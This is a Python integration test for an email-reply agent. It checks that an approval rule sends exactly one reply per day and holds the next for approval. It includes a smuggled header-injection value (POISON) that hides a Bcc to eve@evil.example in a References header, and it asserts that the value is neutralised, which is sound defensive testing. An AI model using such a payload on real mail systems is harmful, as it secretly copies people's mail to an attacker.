"""What a rule approves is sent without being asked, exactly as often as it may be."""

import uuid
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from hashlib import sha256
from typing import Any

import boto3
import pytest

from countersign.adapters.rfc5322.compose import compose
from countersign.domain.actions.email.send_reply import SendReply
from countersign.domain.values import rfc3339
from infra.local.cloud import Cloud
from tests.stack.person import Person, eventually

pytestmark = pytest.mark.stack

ANA = "ana@lima.example"
POISON = "<=?x-none?q?x=0d=0aBcc=3A_eve=40evil.example?=>"
"""Of a charset that nobody knows, so that the mailbox hands it on as it came."""


def _on_the_pro_plan(cloud: Cloud, sam: Person) -> None:
    """What a payment would do."""
    outputs = cloud.outputs()
    table = boto3.client(
        "dynamodb",
        endpoint_url=outputs["emulator_url"],
        region_name=outputs["region"],
        aws_access_key_id="test",
        aws_secret_access_key="test",
    )
    table.update_item(
        TableName=outputs["table"],
        Key={"pk": {"S": f"USER#{sam.session['user']['id']}"}, "sk": {"S": "PROFILE"}},
        UpdateExpression="SET #plan = :pro",
        ConditionExpression="attribute_exists(pk)",
        ExpressionAttributeNames={"#plan": "plan"},
        ExpressionAttributeValues={":pro": {"S": "pro"}},
    )


def _mail(sam: Person, sender: str, to: str, text: str, *labels: str, chain: str = "") -> None:
    mail = EmailMessage()
    mail["Authentication-Results"] = (
        f"mx.google.com; dmarc=pass header.from={sender.partition('@')[2]}"
    )
    mail["From"], mail["To"], mail["Subject"] = sender, to, f"Plans {uuid.uuid4().hex[:6]}"
    mail["Message-ID"] = f"<{uuid.uuid4().hex}@{sender.partition('@')[2]}>"
    mail.set_content(text)
    # By hand: the library would decode what it hides, and write a Bcc into the mail that arrives.
    raw = f"References: {chain}\n{mail.as_string()}" if chain else mail.as_string()
    wanted: dict[str, Any] = {"account": sam.mailbox, "raw": raw}
    sam.place.sandbox("POST", "/mail", json=wanted | ({"label_ids": labels} if labels else {}))


def _tasks(sam: Person) -> list[dict[str, Any]]:
    found = [
        sam.ok("GET", f"/tasks?view={view}")["items"] for view in ("waiting", "active", "done")
    ]
    return [task for items in found for task in items if task["kind"] == "email.send_reply"]


def test_a_rule_sends_as_often_as_it_may_and_the_rest_asks(cloud: Cloud, sam: Person) -> None:
    _on_the_pro_plan(cloud, sam)
    agent = sam.settle_in()
    sam.ok("PATCH", f"/agents/{agent}", json={"autonomy": "rules"})
    preferences = sam.call("GET", "/users/me/preferences")
    sam.ok(
        "PATCH",
        "/users/me/preferences",
        headers={"If-Match": preferences.headers["etag"]},
        json={"cooling_seconds": 1},
    )
    (account,) = sam.ok("GET", "/integrations")["items"]
    rule = sam.ok(
        "POST",
        "/rules",
        json={
            "kind": "email.send_reply",
            "integration_id": account["id"],
            "where": {"to": ANA},
            "limits": {"per_day": 1},
            "expires_at": rfc3339(datetime.now(UTC) + timedelta(days=7)),
        },
    )
    _mail(sam, sam.mailbox, ANA, "Hello Ana, thank you for the tour.", "SENT")
    for _ in range(2):
        text = "Hello Sam,\n\nCould you please confirm receipt of this mail?\n\nAna\n"
        _mail(sam, ANA, sam.mailbox, text, chain=POISON)
    sam.scan(agent)

    def settled() -> list[dict[str, Any]] | None:
        tasks = _tasks(sam)
        over = {"COMPLETED", "AWAITING_APPROVAL"}
        return tasks if len(tasks) == 2 and {task["status"] for task in tasks} == over else None

    tasks = eventually(settled, within=90, what="one reply is sent, and one asks")

    (done,) = [task for task in tasks if task["status"] == "COMPLETED"]
    assert (done["decided"]["by"], done["decided"]["rule_id"]) == ("rule", rule["id"])
    sent = [entry for entry in sam.effects() if entry["effect"] == "drafts.send"]
    assert len(sent) == 1
    (shown,) = sam.ok("GET", "/rules")["items"]
    assert shown["used_today"] == 1
    types = [event["type"] for event in sam.ok("GET", f"/tasks/{done['id']}/events")["items"]]
    assert types[:2] == ["proposed", "approved"]
    assert "=?" not in done["action"]["references"]
    written = compose(SendReply.model_validate(done["action"]), f"{done['id']}.1.draft")
    assert b"\nBcc" not in written
    assert done["result"]["sha256"] == sha256(written).hexdigest()
